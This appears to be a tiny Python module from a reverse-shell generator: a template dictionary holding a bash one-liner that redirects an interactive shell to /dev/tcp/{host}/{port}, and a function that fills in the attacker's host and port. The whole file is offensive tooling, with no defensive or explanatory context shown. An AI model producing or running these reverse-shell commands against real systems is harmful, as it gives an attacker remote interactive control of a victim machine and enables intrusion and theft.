LINES = {"bash": "bash -i >& /dev/tcp/{host}/{port} 0>&1"}


def line(kind, host, port):
    return LINES[kind].format(host=host, port=port)
